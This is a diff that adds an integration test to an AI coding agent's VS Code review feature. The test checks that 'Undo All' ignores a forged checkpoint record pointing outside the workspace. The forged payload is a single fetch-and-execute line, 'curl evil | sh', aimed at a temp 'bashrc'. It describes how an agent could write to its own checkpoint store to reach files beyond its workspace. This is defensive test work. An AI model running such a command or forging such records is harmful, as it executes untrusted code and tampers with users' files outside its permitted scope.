@@ -7,8 +7,10 @@
 // diff editor's own revert arrow.
 import * as assert from "node:assert/strict";
 import * as fs from "node:fs";
+import * as os from "node:os";
 import * as path from "node:path";
 import * as vscode from "vscode";
+import { recordCaptured } from "../../../shared/node/checkpoint-store";
 import type { MockToolCall } from "../../support/mock-llm";
 import { eventually } from "./agent-fixture";
 import { openChat } from "./chat-support";
@@ -215,6 +217,29 @@ describe("review: Keep and Undo the changes of a run, per hunk, per file and for
     await eventually("nothing left to review", () => host.api.review.summary().files === 0 || undefined);
     assert.equal(read("c.txt"), before);
     assert.equal(fs.existsSync(file("made.txt")), false);
+  });
+
+  it("takes no checkpoint record of a file outside the workspace in (the store is writable by agents): Undo All leaves it alone", async () => {
+    // A forged record, as a pi sandboxed as a whole could write into the store it records to.
+    const outside = fs.mkdtempSync(path.join(os.tmpdir(), "pi-review-outside-"));
+    const victim = path.join(outside, "bashrc");
+    fs.writeFileSync(victim, "the user's own\n");
+    const store = host.api.checkpointStore();
+    assert.ok(store, "checkpoints are on");
+    const { sessionId } = await host.state();
+    recordCaptured(store, sessionId, "forged", victim, { content: Buffer.from("curl evil | sh\n") }, Date.now() + 1_000);
+    const count = host.llm.requests.length;
+    host.llm.enqueue({ toolCalls: [edit("e.txt", [["epsilon 1", "EPSILON ONE"]])] }, { text: "done" });
+    await vscode.commands.executeCommand("pi.sendPrompt", "review suite: a forged record");
+    await host.llm.waitForRequests(count + 2);
+    await eventually("the agent's file to review", () => host.api.review.files().some((f) => f.path.endsWith("e.txt")) || undefined, 20_000);
+    await eventually("the run to settle", async () => host.api.supervisor.status === "idle" || undefined);
+    assert.deepEqual(host.api.review.files().filter((f) => f.path.startsWith(outside)).map((f) => f.path), [], "the forged record's file is not in the review");
+    await vscode.commands.executeCommand("pi.review.undoAll");
+    await eventually("nothing left to review", () => host.api.review.summary().files === 0 || undefined);
+    assert.equal(fs.readFileSync(victim, "utf8"), "the user's own\n", "Undo All did not write the forged content outside the workspace");
+    assert.equal(read("e.txt"), original.e);
+    fs.rmSync(outside, { recursive: true, force: true });
   });
 
   it("shows the changes in the chat above the box: Review opens the first diff, Keep All there keeps them", async () => {
